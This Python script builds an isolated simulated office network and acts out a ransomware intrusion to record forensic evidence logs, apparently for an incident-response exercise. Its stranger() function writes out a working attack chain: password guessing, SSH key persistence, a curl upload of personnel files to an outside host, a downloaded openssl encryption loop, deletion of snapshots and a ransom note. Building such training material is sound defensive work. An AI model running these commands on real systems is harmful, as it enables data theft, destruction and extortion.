#!/usr/bin/env python3
"""Records the evidence of this pack: python3 record.py, as root, two minutes. See record.md."""

import crypt
import os
import pathlib
import random
import re
import subprocess
import sys
import tempfile
import threading

sys.path.insert(0, str(pathlib.Path(__file__).parent.parent))
from recording import Clock, Lines, alone, digest, moment

FS1, PROXY, BK1, COPIER, VISITOR = "10.60.1.10", "10.60.1.3", "10.60.1.20", "10.60.3.40", "10.60.9.57"
STRANGER, NEWS, LAWS = "203.0.113.80", "198.51.100.10", "198.51.100.24"
PEOPLE = {"wkcheung": "10.60.2.11", "ymlau": "10.60.2.15", "kfho": "10.60.2.19"}
PASSWORDS = {"svc-scan": "scan1234", "wkcheung": "paper-lantern-57", "ymlau": "quiet-harbour-03", "kfho": "green-minibus-88"}
IDS = {"svc-scan": 2001, "svc-backup": 2002, "wkcheung": 2101, "ymlau": 2102, "kfho": 2103}
OUT = pathlib.Path(__file__).parent / "evidence"
SHARE = pathlib.Path("/srv/share")
SETS = pathlib.Path("/srv/bk1")
FILES = {
    "finance": ["2026-08-claims.xlsx", "2026-09-claims.xlsx", "2026-10-claims.xlsx", "2026-11-claims.xlsx", "estimates-2027.xlsx", "cleaning-tender.docx", "furniture-quotes.xlsx", "petty-cash.xlsx"],
    "personnel": ["appraisals-2026.docx", "emergency-contacts.xlsx", "leave-roll.xlsx", "medical-claims.xlsx", "pay-scale-points.xlsx", "staff-list.xlsx"],
    "projects/2019": ["pier-survey.docx", "pier-photographs.zip", "pier-costs.xlsx", "minutes-01.docx", "minutes-02.docx"],
    "projects/2026": ["signage-plan.docx", "signage-costs.xlsx", "ramp-drawings.pdf", "minutes-11.docx", "minutes-12.docx", "schedule.xlsx"],
    "archive": ["annual-report-2021.pdf", "annual-report-2022.pdf", "annual-report-2023.pdf", "annual-report-2024.pdf", "annual-report-2025.pdf"],
}
LOCK = """for f in $(find "$1" -type f ! -name '*.locked' ! -name README-UNLOCK.txt); do
  openssl enc -aes-256-cbc -pbkdf2 -in "$f" -out "$f.locked" -pass file:/dev/shm/.c/k && rm -f "$f"
done
"""
NOTE = "Your files are locked and we have a copy of some. Write to the address you know within 72 hours. Do not call anybody.\n"


def main():
    alone("10.60.0.1/16", "203.0.113.1/24", "198.51.100.1/24")
    subprocess.run(["hostname", "fs1"], check=True)
    # What fs1 sends by itself has its own address.
    subprocess.run(["ip", "route", "replace", "local", PROXY, "dev", "lo", "src", FS1, "table", "local"], check=True)
    for place in ["/srv", "/home", "/dev/shm", "/run"]:
        subprocess.run(["mount", "-t", "tmpfs", "tmpfs", place], check=True)
    work = pathlib.Path(tempfile.mkdtemp(dir="/run"))
    os.chmod(work, 0o755)
    OUT.mkdir(exist_ok=True)
    accounts(work)
    share()
    servers(work)
    Story(work).run()


def accounts(work):
    """Accounts that exist in this namespace only."""
    passwd, shadow = ["root:x:0:0::/root:/bin/sh", "sshd:x:100:65534::/run/sshd:/usr/sbin/nologin", "www-data:x:33:33::/var/www:/usr/sbin/nologin"], ["root:*:20000::::::"]
    for name, number in IDS.items():
        passwd.append(f"{name}:x:{number}:3000::/home/{name}:/bin/bash")
        shadow.append(f"{name}:{crypt.crypt(PASSWORDS.get(name, os.urandom(9).hex()), crypt.METHOD_SHA512)}:20000::::::")
        keys = pathlib.Path(f"/home/{name}/.ssh")
        keys.mkdir(parents=True)
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", work / name], check=True)
        if name not in PASSWORDS:
            (keys / "authorized_keys").write_text((work / f"{name}.pub").read_text())
        for path in [keys.parent, keys, *keys.iterdir()]:
            os.chown(path, number, 3000)
    for name, lines, mode in [("passwd", passwd, 0o644), ("shadow", shadow, 0o600), ("group", ["root:x:0:", "www-data:x:33:", "nogroup:x:65534:", "office:x:3000:"], 0o644)]:
        (work / name).write_text("\n".join(lines) + "\n")
        os.chmod(work / name, mode)
        subprocess.run(["mount", "--bind", work / name, f"/etc/{name}"], check=True)


def share():
    """The office's files, of noise from a fixed seed; `archive` is the one folder that the office may only read."""
    dice = random.Random(60)
    for folder, names in FILES.items():
        (SHARE / folder).mkdir(parents=True)
        for name in names:
            path = SHARE / folder / name
            path.write_bytes(b"PK\x03\x04" + dice.randbytes(dice.randrange(4_000, 40_000)))
            path.chmod(0o664)
            os.chown(path, IDS["wkcheung"], 3000)
    (SHARE / "scans").mkdir()
    daily = SHARE / ".daily"
    for day in ["fri", "sat"]:
        (daily / day).mkdir(parents=True)
        for name in FILES["finance"] + FILES["personnel"]:
            (daily / day / name).write_bytes(dice.randbytes(2_000))
    for folder in [SHARE, *(path for path in SHARE.rglob("*"))]:
        os.chown(folder, 0, 3000)
        os.chmod(folder, 0o2775 if folder.is_dir() else 0o664)
    for path in [SHARE / "archive", *(SHARE / "archive").iterdir()]:
        os.chown(path, 0, 0)
        os.chmod(path, 0o755 if path.is_dir() else 0o644)


def servers(work):
    """nginx as the proxy of the department and as everything outside."""
    shape = '{"time":"$time_iso8601","client":"$remote_addr","request":"$request","status":$status,"from_client_bytes":$request_length,"to_client_bytes":$bytes_sent,"agent":"$http_user_agent"}'
    (work / "nginx.conf").write_text(f"""daemon off; user root; pid {work}/nginx.pid; error_log /dev/null; events {{ worker_connections 256; }}
http {{ log_format lines escape=json '{shape}'; access_log off; client_max_body_size 0; client_body_temp_path {work}/b; proxy_temp_path {work}/p;
 server {{ listen {PROXY}:3128; access_log {work}/proxy.log lines; location / {{ proxy_bind {PROXY}; proxy_pass http://$http_host$request_uri; }} }}
 server {{ listen {STRANGER}:80; location /in/ {{ return 201; }} location /s {{ root {work}/out; }} }}
 server {{ listen {NEWS}:80; listen {LAWS}:80; location / {{ root {work}/out; }} }} }}""")
    (work / "out").mkdir()
    (work / "out" / "s").write_text(LOCK)
    for name, size in [("index.html", 14_000), ("weather.html", 6_000), ("cap-486.html", 90_000), ("cap-571.html", 70_000), ("tides.pdf", 120_000)]:
        (work / "out" / name).write_bytes(b" " * size)
    os.environ["TZ"] = "UTC"
    subprocess.Popen(["nginx", "-p", work, "-c", work / "nginx.conf"])


class Story:
    def __init__(self, work):
        self.work = work
        names = ["logins", "programmes", "files", "register", "backups"]
        self.lines = {name: Lines(OUT / f"{name}.jsonl") for name in names}
        self.users = {}
        self.parents = {}

    def run(self):
        self.list_share("register", "before")
        self.watch()
        acts = [threading.Thread(target=act) for act in [self.office, self.copier, self.backup, self.stranger]]
        [act.start() for act in acts]
        [act.join() for act in acts]
        self.list_share("register", "after")
        (OUT / "proxy.jsonl").write_text((self.work / "proxy.log").read_text())
        for name in ["proxy", *self.lines]:
            path = OUT / f"{name}.jsonl"
            print(name, path.stat().st_size, "bytes", digest(path))
        os._exit(0)

    def list_share(self, name, which):
        for path in sorted(SHARE.rglob("*")):
            if path.is_file() and ".daily" not in path.parts:
                self.lines[name].add(time=moment(), list=which, path=str(path.relative_to(SHARE)), bytes=path.stat().st_size, sha256=digest(path))

    def watch(self):
        """sshd says who comes in, strace what programmes start under it, inotifywait what becomes of files."""
        pathlib.Path("/run/sshd").mkdir(exist_ok=True)
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", self.work / "host"], check=True)
        options = ["UsePAM no", "PasswordAuthentication yes", "KbdInteractiveAuthentication no", "PermitRootLogin no", "MaxAuthTries 3", "PrintMotd no", "PrintLastLog no", "StrictModes no", f"ListenAddress {FS1}", "Subsystem sftp internal-sftp", f"PidFile {self.work}/sshd.pid", f"HostKey {self.work}/host"]
        (self.work / "sshd_config").write_text("\n".join(options) + "\n")
        trace, traced = os.pipe()
        command = ["strace", "-f", "-ttt", "-qq", "-s", "400", "-e", "trace=execve,setresuid,setuid,clone,clone3,fork,vfork", "-o", f"/proc/self/fd/{traced}"]
        sshd = subprocess.Popen([*command, "/usr/sbin/sshd", "-D", "-e", "-f", self.work / "sshd_config"], stderr=subprocess.PIPE, text=True, pass_fds=[traced])
        os.close(traced)
        self.lines["logins"].read(sshd.stderr, lambda line: {"time": moment(), "host": "fs1", "programme": "sshd", "message": line.strip()})
        self.lines["programmes"].read(os.fdopen(trace, encoding="utf-8"), self.programme)
        watching = ["inotifywait", "-m", "-r", "-q", "--format", "%e|%w%f", "-e", "create,close_write,moved_to,delete", SHARE]
        seen = subprocess.Popen(watching, stdout=subprocess.PIPE, text=True)
        self.lines["files"].read(seen.stdout, changed)

    def programme(self, line):
        """A programme that somebody's session starts; sshd's own processes are left out."""
        number, _, rest = line.partition(" ")
        at, _, call = rest.strip().partition(" ")
        number = int(number)
        born = re.match(r"(?:clone3?|v?fork)\(.*\)\s+= (\d+)$", call) or re.match(r"<\.\.\. (?:clone3?|v?fork) resumed.*\)\s+= (\d+)$", call)
        if born:
            self.users.setdefault(int(born[1]), self.users.get(number, 0))
            self.parents[int(born[1])] = number
        changed = re.match(r"setre?s?uid\((\d+)", call)
        if changed:
            self.users[number] = int(changed[1])
        started = re.match(r'execve\("[^"]*", \[(.*)\], .*\)\s+= 0$', call)
        user = {number: name for name, number in IDS.items()}.get(self.users.get(number))
        if not started or not user:
            return None
        arguments = [text.encode().decode("unicode_escape") for text in re.findall(r'"((?:[^"\\]|\\.)*)"', started[1])]
        return {"time": moment(float(at)), "host": "fs1", "user": user, "pid": number, "parent": self.parents.get(number), "command": " ".join(arguments)}

    def ssh(self, user, source, command, password=None, key=None):
        """One session; whether it came in."""
        options = ["-b", source, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "NumberOfPasswordPrompts=1"]
        ask = self.work / f"ask-{source}"
        ask.write_text("#!/bin/sh\necho \"$SECRET\"\n")
        ask.chmod(0o755)
        options += ["-i", str(key), "-o", "IdentitiesOnly=yes"] if key else ["-o", "PubkeyAuthentication=no"]
        environment = {**os.environ, "SECRET": password or "", "SSH_ASKPASS": str(ask), "SSH_ASKPASS_REQUIRE": "force"}
        return subprocess.run(["ssh", *options, f"{user}@{FS1}", command], env=environment, stdin=subprocess.DEVNULL, capture_output=True, timeout=60)

    def browse(self, source, address):
        subprocess.run(["curl", "-s", "-o", "/dev/null", "--interface", source, "-x", f"http://{PROXY}:3128", "-A", "Mozilla/5.0 (office desktop)", f"http://{address}"], timeout=20)

    def office(self):
        clock = Clock()
        pages = [f"{NEWS}/", f"{NEWS}/weather.html", f"{LAWS}/cap-486.html", f"{LAWS}/cap-571.html", f"{NEWS}/tides.pdf"]
        dice = random.Random(2)
        work = {
            4: ("ymlau", "wrong"), 6: ("ymlau", "Wrong"), 9: ("ymlau", "ls -l /srv/share/projects/2026"),
            14: ("wkcheung", "cp /srv/share/finance/2026-11-claims.xlsx /home/wkcheung/c && head -c 900 /dev/zero >> /home/wkcheung/c && cp /home/wkcheung/c /srv/share/finance/2026-11-claims.xlsx"),
            34: ("kfho", "ls /srv/share/projects/2026; cat /srv/share/projects/2026/minutes-12.docx | wc -c"),
            52: ("ymlau", "head -c 400 /dev/zero >> /srv/share/projects/2026/schedule.xlsx"),
            76: ("wkcheung", "ls -l /srv/share/finance"),
        }
        for second in range(0, 112, 3):
            clock.until(second)
            person, source = dice.choice(list(PEOPLE.items()))
            self.browse(source, dice.choice(pages))
            for at in [at for at in work if second <= at < second + 3]:
                clock.until(at)
                who, what = work[at]
                source = "10.60.9.12" if who == "kfho" else PEOPLE[who]
                wrong = what.lower() == "wrong"
                self.ssh(who, source, "true" if wrong else what, password=what if wrong else PASSWORDS[who])

    def copier(self):
        clock = Clock()
        for number in range(1, 8):
            clock.until(2 + number * 13)
            self.ssh("svc-scan", COPIER, f"head -c {6000 + 700 * number} /dev/urandom > /srv/share/scans/scan-{number:04}.pdf", password=PASSWORDS["svc-scan"])

    def backup(self):
        clock = Clock()
        for number, second in enumerate([12, 58, 82, 114], start=1):
            clock.until(second)
            place = SETS / f"set-{number}"
            place.mkdir(parents=True)
            taken = self.ssh("svc-backup", BK1, "tar -C /srv/share --exclude=.daily -cf - .", key=self.work / "svc-backup")
            subprocess.run(["tar", "-C", place, "-xf", "-"], input=taken.stdout, check=True)
            for path in sorted(path for path in place.rglob("*") if path.is_file()):
                self.lines["backups"].add(time=moment(), host="bk1", set=place.name, path=str(path.relative_to(place)), bytes=path.stat().st_size, sha256=digest(path))

    def stranger(self):
        clock = Clock()
        key = self.work / "stranger"
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "backup@print", "-f", key], check=True)
        public = (self.work / "stranger.pub").read_text().strip()
        clock.until(21)
        for user, word in [("admin", "admin"), ("root", "toor"), ("scanner", "scanner"), ("copier", "copier"), ("svc-scan", "scan"), ("svc-scan", "scanner"), ("svc-scan", "123456"), ("svc-scan", "svc-scan"), ("svc-scan", "scan123")]:
            self.ssh(user, VISITOR, "true", password=word)
        through = f"curl -s -x http://{PROXY}:3128"
        clock.until(42)
        look = f"id; ls -la /srv/share; find /srv/share -name staff-list.xlsx; mkdir -p /dev/shm/.c ~/.ssh; echo '{public}' >> ~/.ssh/authorized_keys; tar -czf /dev/shm/.c/a -C /srv/share personnel; {through} -T /dev/shm/.c/a http://{STRANGER}/in/a; rm -f /dev/shm/.c/a; {through} -o /dev/shm/.c/s http://{STRANGER}/s"
        self.ssh("svc-scan", VISITOR, look, password=PASSWORDS["svc-scan"])
        clock.until(66)
        self.ssh("svc-scan", VISITOR, "openssl rand -hex -out /dev/shm/.c/k 32; bash /dev/shm/.c/s /srv/share/projects/2019", key=key)
        clock.until(94)
        lock = "rm -rf /srv/share/.daily; for d in finance personnel projects scans archive; do bash /dev/shm/.c/s /srv/share/$d; done; "
        note = f"printf '{NOTE.strip()}' | tee /srv/share/README-UNLOCK.txt /srv/share/finance/README-UNLOCK.txt > /dev/null; "
        self.ssh("svc-scan", VISITOR, f"{lock}{note}{through} -T /dev/shm/.c/k http://{STRANGER}/in/k; shred -u /dev/shm/.c/k", key=key)


def changed(line):
    event, _, path = line.partition("|")
    return {"time": moment(), "host": "fs1", "event": event.split(",")[0].lower(), "path": path.removeprefix(f"{SHARE}/")}


if __name__ == "__main__":
    main()
